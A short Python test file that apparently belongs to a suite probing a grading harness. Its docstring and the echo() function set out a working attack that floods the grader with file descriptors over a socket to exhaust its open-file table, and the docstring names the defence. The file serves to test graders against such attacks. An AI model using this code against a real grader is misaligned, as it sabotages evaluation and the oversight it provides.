"""Title: Hand descriptors to the grader
How: Every byte on the channel is sent with sixteen descriptors, which a careless receiver collects until it has no more.
After: the table of open files of the grader, and with it all gradings to come
Stopped by: the grader reads the channel without asking for descriptors: the kernel closes them
"""

import array
import os
import socket

OUTCOME = {"echo": "crashed", "twice": "passed"}


def echo(x):
    line = socket.socket(fileno=os.dup(3))
    fds = array.array("i", [os.open("/dev/null", os.O_RDONLY) for _ in range(16)])
    for _ in range(16):
        line.sendmsg([b"a"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])
    return x


def twice(x):
    return 2 * x
